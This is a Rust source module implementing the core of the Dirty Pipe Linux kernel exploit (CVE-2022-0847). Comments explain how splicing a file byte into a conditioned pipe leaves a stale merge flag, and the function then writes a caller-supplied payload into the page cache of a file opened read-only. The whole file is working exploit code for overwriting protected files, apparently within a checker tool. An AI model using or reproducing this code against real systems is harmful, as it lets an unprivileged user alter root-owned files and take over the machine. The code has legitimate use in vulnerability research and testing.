//! Page cache overwrite through a conditioned pipe (CVE-2022-0847).
//!
//! Splicing one byte of a file into the pipe makes the kernel attach the
//! file's cached page to a ring slot. `copy_page_to_iter_pipe()` does not
//! reset the slot's `flags`, so the merge flag left by conditioning survives.
//! The next write(2) into the pipe is then merged into that page, landing
//! directly in the page cache of a file that was only opened for reading.

use std::fs::File;

use crate::constants::SPLICE_BYTES;
use crate::error::CheckError;
use crate::pipe::ConditionedPipe;
use crate::sys;
use crate::types::WriteRequest;
use crate::validation::{check_file_extent, check_page_window};

/// Overwrite `request.payload.len()` bytes at `request.offset` in the cached
/// pages of `request.path`.
///
/// All-or-nothing: any failed or short syscall aborts the attempt.
pub(crate) fn overwrite_cached_page(request: &WriteRequest) -> Result<(), CheckError> {
    overwrite_with_page_size(request, sys::page_size())
}

fn overwrite_with_page_size(request: &WriteRequest, page_size: u64) -> Result<(), CheckError> {
    let len = request.payload.len();
    check_page_window(request.offset, len, page_size)?;

    // read-only on purpose
    let file = File::open(&request.path).map_err(|e| CheckError::io("open", e))?;
    let file_size = file
        .metadata()
        .map_err(|e| CheckError::io("stat", e))?
        .len();
    check_file_extent(request.offset, len, file_size)?;

    let mut pipe = ConditionedPipe::new()?;
    log_info!("pipe conditioned ({} bytes)", pipe.capacity());

    let source_offset = request.offset - 1;
    let spliced = pipe.splice_in(&file, source_offset, SPLICE_BYTES)?;
    if spliced < SPLICE_BYTES {
        return Err(CheckError::short("splice", SPLICE_BYTES, spliced));
    }
    log_info!(
        "spliced {spliced} byte from {} at offset {source_offset}",
        request.path.display()
    );

    let written = pipe.write_in(&request.payload)?;
    if written < len {
        return Err(CheckError::short("write", len, written));
    }
    log_info!("wrote {written} bytes into the pipe");

    Ok(())
}
